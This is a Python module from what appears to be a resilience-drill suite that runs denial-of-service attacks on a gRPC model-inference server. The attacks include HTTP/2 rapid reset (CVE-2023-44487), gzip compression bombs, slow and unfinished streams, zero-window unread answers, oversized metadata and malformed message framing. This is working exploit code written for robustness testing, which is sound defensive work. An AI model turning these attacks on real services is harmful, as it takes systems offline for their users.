"""Unusual calls: slow, unfinished, reset, late or unread calls, calls with unlimited headers, and streams."""

import contextlib
import gzip
import itertools
import struct
import time

from campaigns.drills.attack import Attack, Strike, attack
from campaigns.drills.drilled import MODEL
from campaigns.drills.http2 import (
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    INITIAL_WINDOW_SIZE,
    RST_STREAM,
    Http2Connection,
    call_headers,
    frame,
    grpc_message,
    literal,
)
from campaigns.fuzzing.wire_format import delimited

_SLOW = "slow and unfinished calls"
_STORMS = "storms"
_HEADERS = "headers without bound"
_FRAMING = "wrongly framed messages"

_LARGE, _PART = 15_000_000, 1 << 18  # bytes

_CANCEL = struct.pack(">I", 8)


def _opened(strike: Strike, stream: int, *more: tuple[str, str], method: str = "ModelInfer") -> bytes:
    return frame(HEADERS, END_HEADERS, stream, call_headers(strike.path(method), *more))


def _open_streams(strike: Strike, connection: Http2Connection, count: int, *headers: tuple[str, str]) -> range:
    """Open ModelStreamInfer streams and get one valid answer on each."""
    numbers = range(1, 2 * count, 2)
    for number in numbers:
        connection.send(_opened(strike, number, *headers, method="ModelStreamInfer"), strike.until)
        connection.send_data(number, grpc_message(strike.valid), strike.until)
    return numbers


def send_calls(
    strike: Strike, connection: Http2Connection, message: bytes, count: int, *headers: tuple[str, str]
) -> None:
    """Send a ModelInfer message in many calls, or until the server stops accepting it. Then count the answers.

    Args:
        strike: The attack.
        connection: A connection for this attack only.
        message: The message with gRPC's framing.
        count: Number of calls.
        headers: Additional headers of each call.
    """
    for stream in range(1, 2 * count, 2):
        connection.send(_opened(strike, stream, *headers), strike.until)
        if connection.send_data(stream, message, strike.until) < len(message):
            break
        connection.send(frame(DATA, END_STREAM, stream), strike.until)
        strike.answers.note("SENT")
    time.sleep(strike.left())
    connection.note(strike.answers.note)


@attack(_SLOW)
def unfinished_messages(strike: Strike) -> None:
    """Send 15 MB except the last byte on 100 streams of each of 10 connections, in turns, so that all grow."""
    message = grpc_message(bytes(_LARGE))[:-1]
    with contextlib.ExitStack() as held:
        sent = {}
        for connection in [held.enter_context(strike.connect()) for _ in range(10)]:
            sent |= {(connection, number): 0 for number in _open_streams(strike, connection, 10)}
        while strike.left() and min(sent.values()) < len(message):
            for connection, number in sent:
                at = sent[connection, number]
                until = min(strike.until, time.monotonic() + 0.05)
                sent[connection, number] += connection.send_data(number, message[at : at + _PART], until)
        time.sleep(strike.left())
        strike.answers.note("SENT", f"{sum(sent.values()) >> 20} MB")
        for connection in {connection for connection, _ in sent}:
            connection.note(strike.answers.note)


@attack(_SLOW)
def unread_answers(strike: Strike) -> None:
    """Send 64 requests of 480 kB with large answers, on a connection that opens no window for them."""
    with strike.connect((INITIAL_WINDOW_SIZE, 0)) as connection:
        send_calls(strike, connection, grpc_message(strike.request(512, 120).SerializeToString()), 64)


@attack(_SLOW)
def unread_answers_on_streams(strike: Strike) -> None:
    """Send 100 requests on each of 300 streams, on a connection that opens no window for their answers."""
    with strike.connect((INITIAL_WINDOW_SIZE, 0)) as connection:
        numbers = _open_streams(strike, connection, 300)
        message = grpc_message(strike.request(64, 4).SerializeToString())
        for _ in range(100):
            if not all(connection.send_data(number, message, strike.until) == len(message) for number in numbers):
                break
        connection.note(strike.answers.note)


@attack(_SLOW)
def unfinished_calls(strike: Strike) -> None:
    """Open 10,000 calls on one connection that send only headers."""
    with strike.connect() as connection:
        for first in range(1, 20_000, 200):
            opened = b"".join(_opened(strike, stream) for stream in range(first, first + 200, 2))
            if not connection.send(opened, strike.until):
                break
        connection.note(strike.answers.note)


@attack("compression bombs")
def bombs_on_open_streams(strike: Strike) -> None:
    """Get an answer on each of 300 streams, and then send 15 MB of zeros, compressed to 15 kB, on all at once."""
    bomb = grpc_message(gzip.compress(strike.zeros()), flag=1)
    with strike.connect() as connection:
        numbers = _open_streams(strike, connection, 300, ("grpc-encoding", "gzip"))
        time.sleep(strike.left() / 4)
        for number in numbers:
            connection.send_data(number, bomb, strike.until)
        time.sleep(strike.left())
        connection.note(strike.answers.note)


@attack(_STORMS)
def rapid_reset(strike: Strike) -> None:
    """Open calls and reset each at once, endlessly (CVE-2023-44487)."""
    data = grpc_message(strike.valid)
    with strike.connect() as connection:
        for stream in itertools.count(1, 2):
            call = _opened(strike, stream) + frame(DATA, END_STREAM, stream, data)
            if not connection.send(call + frame(RST_STREAM, 0, stream, _CANCEL), strike.until):
                break
        connection.note(strike.answers.note)


@attack(_STORMS)
def other_methods(strike: Strike) -> None:
    """Call statistics, metadata, config and index, with 512 calls in flight."""
    for method in itertools.cycle(("ModelStatistics", "ModelMetadata", "ModelConfig", "RepositoryIndex")):
        if not strike.left():
            return
        payload = b"" if method == "RepositoryIndex" else delimited(1, MODEL.encode())
        strike.flood(method, itertools.repeat(payload, 512), in_flight=512)


@attack(_HEADERS)
def huge_metadata(strike: Strike) -> None:
    """Send metadata of 16 kB, of 1 MB, and of 1,000 keys."""
    values = [literal("x-key", "y" * 16_000), b"".join(literal(f"x-{n}", "y") for n in range(1_000))]
    with strike.connect() as connection:
        for stream, more in zip(range(1, 80, 2), itertools.cycle(values), strict=False):
            block = (call_headers(strike.path("ModelInfer")) + more)[: 1 << 14]
            message = frame(DATA, END_STREAM, stream, grpc_message(strike.valid))
            if not connection.send(frame(HEADERS, END_HEADERS, stream, block) + message, strike.until):
                break
        connection.note(strike.answers.note)
    for value in (("x-key", "y" * 1_000_000), ("x-other", "z" * 7_000)):
        strike.flood("ModelInfer", [strike.valid] * 20, metadata=(value,))


def _call_each(strike: Strike, calls: list[bytes]) -> None:
    """Send each call on a separate connection until the time is over."""
    for call in itertools.takewhile(lambda _: strike.left(), calls):
        with strike.connect() as connection:
            connection.send(call, strike.until)
            connection.note(strike.answers.note, calls=1)


@attack(_FRAMING)
def sizes_of_messages(strike: Strike) -> None:
    """Wrong framing: a size of 4 GB, no message, two messages in a unary call, a compressed flag without encoding."""
    valid = strike.valid
    messages = [
        grpc_message(valid, 2**32 - 1), grpc_message(valid, len(valid) + 1), grpc_message(valid, 0), b"", b"\0\0",
        b"\0" * 5, grpc_message(valid) * 2, grpc_message(valid) + b"\0", grpc_message(valid, flag=1),
        grpc_message(valid, flag=255),
    ]  # fmt: skip
    ends = [frame(DATA, flags, 1, message) for message in messages for flags in (END_STREAM, 0)]
    _call_each(strike, [_opened(strike, 1) + end for end in ends])


ATTACKS: tuple[Attack, ...] = (
    unfinished_messages, unread_answers, unread_answers_on_streams, unfinished_calls, bombs_on_open_streams,
    rapid_reset, other_methods, huge_metadata, sizes_of_messages,
)  # fmt: skip
